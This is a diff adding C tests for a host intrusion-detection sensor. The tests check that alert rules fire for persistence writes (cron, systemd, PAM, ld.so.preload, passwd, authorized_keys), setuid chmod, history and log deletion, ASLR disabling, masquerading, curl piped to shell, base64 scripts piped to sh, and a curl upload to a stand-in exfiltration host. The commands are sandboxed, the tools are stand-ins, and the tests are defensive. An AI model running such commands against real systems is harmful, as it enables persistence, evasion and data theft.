@@ -202,3 +202,154 @@ Test(detect, an_event_before_an_exec_names_the_program_of_its_time)
 		     n, "file events named after the program the shell exec'd later");
 	vg_t_rmrf(dir);
 }
+
+/*
+ * Alerts of rule whose evidence names like (a path or a command line part):
+ * the sensor sees the whole machine, other people's work included.
+ */
+static long long alerts_for(const char *rule, const char *like, long long want, int timeout_ms)
+{
+	return vg_t_wait_int(
+		&host, want, timeout_ms,
+		"SELECT count(DISTINCT a.AlertId) FROM AlertInfo a JOIN AlertEvidence e"
+		" USING (AlertId) WHERE a.RuleId = '%s' AND (e.FolderPath LIKE '%%%s%%'"
+		" OR e.ProcessCommandLine LIKE '%%%s%%')",
+		rule, like, like);
+}
+
+/* A copy of program at dir/name (a stand-in for a tool, or a masquerading binary). */
+static void fake_tool(const char *dir, const char *name, const char *program)
+{
+	sh("cp %s '%s/%s'", program, dir, name);
+}
+
+/*
+ * Persistence, each written for real: in a private mount namespace with a
+ * tmpfs over /etc (nothing of the machine's /etc is touched), and in a
+ * temporary home. The same writes by a program named like a package
+ * manager are the near misses.
+ */
+Test(detect, persistence_writes_alert_and_package_managers_do_not)
+{
+	static const char *const rules[] = {
+		"persist_cron",
+		"persist_systemd",
+		"persist_ld_preload",
+		"persist_pam",
+		"persist_passwd_write",
+		"persist_shell_profile",
+		"persist_authorized_keys",
+	};
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-persist");
+	fake_tool(dir, "dpkg", "/bin/cp");
+	/* near misses first: once the real writes' alerts are there, these were judged */
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+	   " %s/dpkg /dev/null /etc/cron.d/vgpkg && %s/dpkg /dev/null /etc/pam.d/vgpkg &&"
+	   " %s/dpkg /dev/null /etc/systemd/system/vgpkg.service && cp /dev/null /etc/cron.dx &&"
+	   " echo x > /etc/systemd/system/vgpkg.wants && echo x > /etc/pam.d.vgpkg'",
+	   dir, dir, dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+	   " echo \"* * * * * root id\" > /etc/cron.d/vgjob &&"
+	   " echo [Service] > /etc/systemd/system/vgjob.service &&"
+	   " echo > /etc/ld.so.preload && echo auth > /etc/pam.d/vgjob &&"
+	   " echo vgjob:x:0:0::/root:/bin/sh >> /etc/passwd'");
+	sh("mkdir -p %s/.ssh && echo vgjob >> %s/.bashrc && echo vgjob >> %s/.ssh/authorized_keys",
+	   dir, dir, dir);
+	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.d/vgjob", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_systemd", "vgjob.service", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_ld_preload", "/etc/ld.so.preload", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_pam", "/etc/pam.d/vgjob", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_passwd_write", "/etc/passwd", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_shell_profile", dir, 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_authorized_keys", dir, 1, 30000), 1);
+	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
+		cr_expect_eq(alerts_for(rules[i], "vgpkg", 0, 0), 0, "%s", rules[i]);
+	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.dx", 0, 0), 0);
+	vg_t_rmrf(dir);
+}
+
+/* Privilege escalation and defence evasion, each done for real, with its near miss. */
+Test(detect, setid_history_log_aslr_and_masquerading)
+{
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-evade");
+	/* near misses: a plain chmod, history appended to, another log removed, ASLR read */
+	sh("cd %s && cp /bin/true plain && chmod 755 plain && echo ls >> .bash_history &&"
+	   " cat /proc/sys/kernel/randomize_va_space > /dev/null && cp /bin/true vgok && ./vgok",
+	   dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+	   " echo x > /var/log/vgold.log && rm /var/log/vgold.log'");
+	/* the real ones */
+	sh("cd %s && cp /bin/true rootsh && chmod 4755 rootsh && rm .bash_history &&"
+	   " echo x > .zsh_history && : > .zsh_history",
+	   dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+	   " echo x > /var/log/wtmp && rm /var/log/wtmp'");
+	/* the value it has, written back: a write all the same */
+	sh("v=$(cat /proc/sys/kernel/randomize_va_space) &&"
+	   " echo $v > /proc/sys/kernel/randomize_va_space && setarch $(uname -m) -R /bin/true");
+	sh("cd %s && cp /bin/true sshd && ./sshd", dir);
+
+	cr_expect_eq(alerts_for("privesc_setid_chmod", "rootsh", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_history", "/.bash_history", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_history", "/.zsh_history", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_log_tamper", "/var/log/wtmp", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_aslr", "randomize_va_space", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_aslr_cmdline", "-R /bin/true", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_masquerade", "/sshd", 1, 30000), 1);
+	cr_expect_eq(alerts_for("privesc_setid_chmod", "plain", 0, 0), 0);
+	cr_expect_eq(alerts_for("evasion_log_tamper", "vgold", 0, 0), 0);
+	cr_expect_eq(alerts_for("evasion_masquerade", "vgok", 0, 0), 0);
+	vg_t_rmrf(dir);
+}
+
+/*
+ * Execution, discovery and exfiltration by command line: a stand-in curl
+ * (a copy of /bin/true: nothing leaves the machine) piped to a shell and
+ * uploading, a base64-decoded script, a burst of discovery tools; each
+ * with its near miss.
+ */
+Test(detect, pipe_to_shell_base64_discovery_and_exfiltration)
+{
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-exec");
+	fake_tool(dir, "curl", "/bin/true");
+	/* near misses: a download to a file, decoding to a file, 7 discovery tools, a GET */
+	sh("%s/curl -o %s/x https://vg-near.invalid/x && echo aGk= | base64 -d > /dev/null", dir,
+	   dir);
+	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; echo vg-few' > /dev/null");
+	sh("%s/curl -s https://vg-near.invalid/get", dir);
+	/* the real ones */
+	/* system()'s shell is the one whose command line pipes */
+	sh("%s/curl -fsSL https://vg-pipe.invalid/i.sh | sh", dir);
+	sh("echo dHJ1ZQo= | base64 -d | sh");
+	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; printenv; mount; echo vg-many'"
+	   " > /dev/null");
+	sh("%s/curl -T /etc/hostname https://vg-exfil.invalid/up", dir);
+
+	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-pipe", 1, 30000), 1);
+	cr_expect_eq(alerts_for("exec_base64_script", "dHJ1ZQo=", 1, 30000), 1);
+	cr_expect_eq(alerts_for("exfil_cmdline", "vg-exfil", 1, 30000), 1);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 9, 30000,
+			      "SELECT EvidenceCount FROM AlertInfo a WHERE RuleId ="
+			      " 'discovery_burst' AND EXISTS (SELECT 1 FROM AlertEvidence e WHERE"
+			      " e.AlertId = a.AlertId AND e.FileName = 'printenv')"),
+		9, "one alert, each of the 9 tools its evidence");
+	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-near", 0, 0), 0);
+	cr_expect_eq(alerts_for("exec_base64_script", "aGk=", 0, 0), 0);
+	cr_expect_eq(alerts_for("exfil_cmdline", "vg-near", 0, 0), 0);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 0, 0,
+			      "SELECT count(*) FROM AlertEvidence e JOIN DeviceProcessEvents p ON"
+			      " e.SourceTable = 'DeviceProcessEvents' AND p.rowid = e.SourceRowId"
+			      " WHERE p.InitiatingProcessCommandLine LIKE '%%vg-few%%'"),
+		0, "7 tools raised an alert");
+	vg_t_rmrf(dir);
+}
